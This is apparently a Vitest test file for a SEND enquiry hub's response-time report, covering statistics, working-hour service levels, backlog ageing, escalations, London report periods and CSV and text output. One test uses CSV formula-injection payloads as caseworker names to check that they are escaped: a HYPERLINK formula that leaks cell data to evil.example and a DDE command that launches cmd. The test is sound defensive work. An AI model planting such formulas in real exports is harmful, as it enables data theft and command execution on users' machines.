import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { defaultHubConfig } from '../../shared/config/load-hub-config';
import {
  applyResolve,
  applyResponse,
  type Caseworker,
  type Enquiry,
  openEnquiry,
} from '../../shared/domain/enquiry';
import { startOfLocalDay } from '../../shared/domain/local-time';
import { hubServiceLevels } from '../../shared/domain/service-level';
import { median, quantile } from '../../shared/domain/statistics';
import { type Channel, NO_SAFEGUARDING_CONCERN, type Priority } from '../../shared/domain/taxonomy';
import type { EscalationRecord } from '../../shared/escalation/ports';
import { csvField, reportCsv } from '../../shared/reporting/report-csv';
import { periodFromDates, previousFullWeek } from '../../shared/reporting/report-period';
import { reportSummaryText } from '../../shared/reporting/report-summary';
import {
  ageBand,
  buildResponseTimeReport,
  firstResponseStats,
  type ReportInput,
  workingDayMinutes,
} from '../../shared/reporting/response-time-report';

const config = defaultHubConfig();
const policy = hubServiceLevels(config);
const LONDON = 'Europe/London';
let sequence = 0;

/** An enquiry received at `receivedAt` (Monday 23 November 2026 is a plain working week). */
function received(
  receivedAt: string,
  options: { priority?: Priority; team?: string; channel?: Channel } = {},
): Enquiry {
  sequence += 1;
  return openEnquiry(
    {
      id: `SEND-${String(sequence).padStart(6, '2').replaceAll('0', 'A').replaceAll('1', 'B')}`,
      triage: {
        topic: 'transport',
        priority: options.priority ?? 'normal',
        role: 'parent',
        district: 'thanet',
        reasons: [],
        safeguarding: NO_SAFEGUARDING_CONCERN,
      },
      team: options.team ?? 'east',
      channel: options.channel ?? 'email',
      requester: { name: 'Jo Bloggs', email: 'jo.bloggs@example.org', phone: null },
      subject: 'Taxi',
      receivedAt,
      now: receivedAt,
      actor: 'router',
    },
    policy,
  ).enquiry;
}

function answered(enquiry: Enquiry, at: string): Enquiry {
  return applyResponse(enquiry, at, 'cw-east-1', policy).enquiry;
}

const MONDAY = '2026-11-23T09:00:00.000Z';
const period = periodFromDates(LONDON, '2026-11-23', '2026-11-29');

function input(overrides: Partial<ReportInput>): ReportInput {
  return {
    config,
    period,
    asOf: '2026-11-30T07:00:00.000Z',
    received: [],
    unresolved: [],
    escalations: [],
    caseworkers: [],
    ...overrides,
  };
}

describe('report statistics', () => {
  it('takes the median and interpolated 90th percentile of response times', () => {
    expect(median([4, 1, 3, 2, 10])).toBe(3);
    expect(median([1, 2, 3, 4])).toBe(2.5);
    // Position (5 - 1) * 0.9 = 3.6: 4 + 0.6 * (10 - 4).
    expect(quantile([1, 2, 3, 4, 10], 0.9)).toBeCloseTo(7.6, 10);
    expect(quantile([], 0.9)).toBeNull();
  });

  it('keeps every quantile between the smallest and largest value, rising with p', () => {
    fc.assert(
      fc.property(
        fc.array(fc.double({ min: 0, max: 10_000, noNaN: true }), { minLength: 1, maxLength: 60 }),
        fc.double({ min: 0, max: 1, noNaN: true }),
        fc.double({ min: 0, max: 1, noNaN: true }),
        (values, p, q) => {
          const low = quantile(values, Math.min(p, q)) ?? Number.NaN;
          const high = quantile(values, Math.max(p, q)) ?? Number.NaN;
          expect(low).toBeGreaterThanOrEqual(Math.min(...values));
          expect(high).toBeLessThanOrEqual(Math.max(...values));
          expect(low).toBeLessThanOrEqual(high);
        },
      ),
    );
  });
});

describe('first responses within the service level', () => {
  it('counts on-time, late and overdue enquiries, and leaves out those still inside their window', () => {
    const onTime = answered(received(MONDAY, { priority: 'urgent' }), '2026-11-23T11:00:00Z'); // 2 h of 4
    const late = answered(received(MONDAY, { priority: 'urgent' }), '2026-11-23T14:00:00Z'); // 5 h of 4
    const overdue = received(MONDAY, { priority: 'urgent' }); // due 13:00, nobody answered
    const awaiting = received('2026-11-27T16:00:00Z'); // normal, due the next Friday
    const closed = applyResolve(received(MONDAY), '2026-11-23T10:00:00Z', 'cw-east-1', policy).enquiry;
    const stats = firstResponseStats(
      config,
      [onTime, late, overdue, awaiting, closed],
      '2026-11-27T17:00:00Z',
    );
    expect(stats).toMatchObject({
      received: 5,
      withinWindow: 1,
      late: 1,
      overdueUnanswered: 1,
      awaiting: 1,
      closedWithoutResponse: 1,
      withinWindowPercent: 33.3,
    });
  });

  it('measures response times in working hours, excluding nights and weekends', () => {
    // Friday 16:00 to Monday 10:00 is 2 working hours.
    const overWeekend = answered(received('2026-11-27T16:00:00Z'), '2026-11-30T10:00:00Z');
    const sameDay = answered(received(MONDAY), '2026-11-23T09:30:00Z');
    const stats = firstResponseStats(config, [overWeekend, sameDay], '2026-11-30T12:00:00Z');
    expect(stats.medianWorkingHours).toBe(1.25);
    expect(stats.p90WorkingHours).toBe(1.85);
    expect(stats.withinWindowPercent).toBe(100);
  });

  it('reports per priority and per team, with every priority and team present', () => {
    const report = buildResponseTimeReport(
      input({
        received: [
          answered(received(MONDAY, { priority: 'urgent', team: 'north' }), '2026-11-23T10:00:00Z'),
          answered(
            received(MONDAY, { priority: 'high', team: 'north', channel: 'phone' }),
            '2026-11-26T10:00:00Z',
          ),
        ],
      }),
    );
    expect(report.received.byChannel).toEqual({ email: 1, phone: 1 });
    expect(report.firstResponse.byPriority.urgent?.withinWindowPercent).toBe(100);
    // High allows 16 working hours; Monday 09:00 to Thursday 10:00 is 25.
    expect(report.firstResponse.byPriority.high?.withinWindowPercent).toBe(0);
    expect(report.firstResponse.byPriority.normal?.withinWindowPercent).toBeNull();
    expect(report.firstResponse.byTeam.north?.withinWindowPercent).toBe(50);
    expect(Object.keys(report.firstResponse.byTeam)).toEqual(config.teams.map((team) => team.id));
  });
});

describe('backlog by age in working days', () => {
  it('bands ages at 1, 2, 5 and 10 working days (a working day is 8 hours here)', () => {
    expect(workingDayMinutes(config)).toBe(480);
    expect([0, 0.99, 1, 1.5, 2, 4.9, 5, 9.99, 10, 40].map(ageBand)).toEqual([
      '0-1',
      '0-1',
      '1-2',
      '1-2',
      '2-5',
      '2-5',
      '5-10',
      '5-10',
      '10+',
      '10+',
    ]);
  });

  it('ages unresolved enquiries from receipt to the report instant on the hub calendar', () => {
    const asOf = '2026-12-07T09:00:00.000Z'; // Monday
    const report = buildResponseTimeReport(
      input({
        asOf,
        unresolved: [
          received('2026-12-04T13:00:00Z'), // Friday 13:00: 4 working hours
          received('2026-12-03T09:00:00Z'), // Thursday: 2 days
          received('2026-11-30T09:00:00Z'), // a week: 5 days
          received('2026-11-23T09:00:00Z', { team: 'west' }), // two weeks: 10 days
        ],
      }),
    );
    expect(report.backlog.byAgeBand).toEqual({ '0-1': 1, '1-2': 0, '2-5': 1, '5-10': 1, '10+': 1 });
    expect(report.backlog.byTeam).toMatchObject({ east: 3, west: 1, north: 0 });
  });
});

describe('escalations and caseloads', () => {
  const record = (enquiryId: string, stepId: string, breach: boolean, team = 'east'): EscalationRecord => ({
    enquiryId,
    stepId,
    stepAt: '2026-11-24T13:00:00.000Z',
    escalatedAt: '2026-11-24T13:05:00.000Z',
    breach,
    pastDue: stepId !== 'warning',
    priority: 'urgent',
    team,
    recipientRole: 'team-manager',
  });

  it('counts steps by step and breaches once per enquiry', () => {
    const report = buildResponseTimeReport(
      input({
        escalations: [
          record('SEND-AAAAA2', 'warning', false),
          record('SEND-AAAAA2', 'breach', true),
          record('SEND-AAAAA2', 'head-of-service', false),
          // Reopened and breached again in a second window: still one enquiry.
          record('SEND-AAAAA2', 'breach', true),
          record('SEND-AAAAA3', 'warning', false, 'north'),
          record('SEND-AAAAA4', 'breach', true, 'north'),
        ],
      }),
    );
    expect(report.escalations.byStep).toEqual({ warning: 2, breach: 3, 'head-of-service': 1 });
    expect(report.escalations.breaches).toBe(2);
    expect(report.escalations.breachesByTeam).toMatchObject({ east: 1, north: 1, south: 0 });
  });

  it('shows open cases against each caseworker cap', () => {
    const caseworker = (id: string, openCount: number, cap: number): Caseworker => ({
      id,
      name: `Name ${id}`,
      email: `${id}@kent.example.gov.uk`,
      team: 'east',
      topics: [],
      cap,
      openCount,
      active: true,
    });
    const report = buildResponseTimeReport(
      input({ caseworkers: [caseworker('cw-b', 30, 40), caseworker('cw-a', 0, 0)] }),
    );
    expect(
      report.caseload.map((line) => [line.caseworkerId, line.openCount, line.cap, line.utilisationPercent]),
    ).toEqual([
      ['cw-a', 0, 0, null],
      ['cw-b', 30, 40, 75],
    ]);
  });
});

describe('report periods in the hub time zone', () => {
  it('reports the Monday-Sunday week before a Monday-morning schedule', () => {
    expect(previousFullWeek(LONDON, '2026-11-30T07:00:00Z')).toEqual({
      from: '2026-11-23',
      to: '2026-11-29',
      timeZone: LONDON,
      start: '2026-11-23T00:00:00.000Z',
      end: '2026-11-30T00:00:00.000Z',
    });
  });

  it('never reports an unfinished week, whichever day it fires', () => {
    // Sunday 23:30 in London (BST) is still inside the week of 1-7 June.
    expect(previousFullWeek(LONDON, '2026-06-07T22:30:00Z').from).toBe('2026-05-25');
    // 00:30 on Monday 8 June in London is 23:30 UTC on Sunday: the week of 1-7 June is over.
    expect(previousFullWeek(LONDON, '2026-06-07T23:30:00Z').from).toBe('2026-06-01');
  });

  it('follows the clock change: the week of 25 October 2026 is an hour longer', () => {
    const week = previousFullWeek(LONDON, '2026-10-26T08:00:00Z');
    expect(week.start).toBe('2026-10-18T23:00:00.000Z');
    expect(week.end).toBe('2026-10-26T00:00:00.000Z');
    expect(new Date(startOfLocalDay(LONDON, '2026-03-29')).toISOString()).toBe('2026-03-29T00:00:00.000Z');
    expect(new Date(startOfLocalDay(LONDON, '2026-03-30')).toISOString()).toBe('2026-03-29T23:00:00.000Z');
  });

  it('refuses a period that ends before it starts, naming the field', () => {
    expect(() => periodFromDates(LONDON, '2026-11-29', '2026-11-23')).toThrow(
      /to \(2026-11-23\) is before from/,
    );
    expect(() => periodFromDates(LONDON, '2026-11-31', '2026-12-01')).toThrow(/from "2026-11-31"/);
  });
});

describe('report output', () => {
  const report = buildResponseTimeReport(
    input({ received: [answered(received(MONDAY, { priority: 'urgent' }), '2026-11-23T10:30:00Z')] }),
  );

  it('writes one tidy CSV table: a header, then one row per figure', () => {
    const lines = reportCsv(report, config).trimEnd().split('\r\n');
    expect(lines[0]).toBe('period_from,period_to,section,dimension,category,label,measure,value');
    expect(lines).toContain('2026-11-23,2026-11-29,received,all,all,,enquiries,1');
    expect(lines).toContain('2026-11-23,2026-11-29,first-response,priority,urgent,,median-working-hours,1.5');
    expect(lines).toContain('2026-11-23,2026-11-29,first-response,priority,normal,,within-window-percent,');
    expect(lines).toContain('2026-11-23,2026-11-29,received,team,east,East Kent SEND team,enquiries,1');
    expect(lines.every((line) => line.split(',').length >= 8)).toBe(true);
  });

  it('writes a caseworker named like a formula as text a spreadsheet will not run', () => {
    const hostile = (id: string, name: string): Caseworker => ({
      id,
      name,
      email: `${id}@kent.example.gov.uk`,
      team: 'east',
      topics: [],
      cap: 10,
      openCount: 1,
      active: true,
    });
    const csv = reportCsv(
      buildResponseTimeReport(
        input({
          caseworkers: [
            hostile('cw-eq', '=HYPERLINK("http://evil.example/?"&A1,"Open")'),
            hostile('cw-plus', "+1+cmd|' /C calc'!A0"),
            hostile('cw-minus', '-2+3'),
            hostile('cw-at', '@SUM(A1:A9)'),
            hostile('cw-tab', '\t=1+1'),
          ],
        }),
      ),
      config,
    );
    const labels = csv
      .split('\r\n')
      .filter((line) => line.includes(',caseload,') && line.endsWith(',open,1'))
      .map((line) => line.split(',').slice(5, -2).join(','));
    expect(labels).toHaveLength(5);
    for (const label of labels) expect(label.replace(/^"/, '').startsWith("'"), label).toBe(true);
    // Numbers stay numbers, negative ones included.
    expect(csvField('-12.5')).toBe('-12.5');
    expect(csvField('=1+1')).toBe("'=1+1");
  });

  it('quotes CSV fields that hold commas or quotes', () => {
    expect(csvField('Smith, "Jo"')).toBe('"Smith, ""Jo"""');
    expect(csvField('plain')).toBe('plain');
  });

  it('summarises in plain English with readable tables', () => {
    const text = reportSummaryText(report, config);
    expect(text).toContain('SEND Hub report: Monday 23 November 2026 to Sunday 29 November 2026');
    expect(text).toContain('First responses within the service level: 100% (1 of 1)');
    expect(text).toMatch(/urgent\s+1\s+100%/);
  });
});
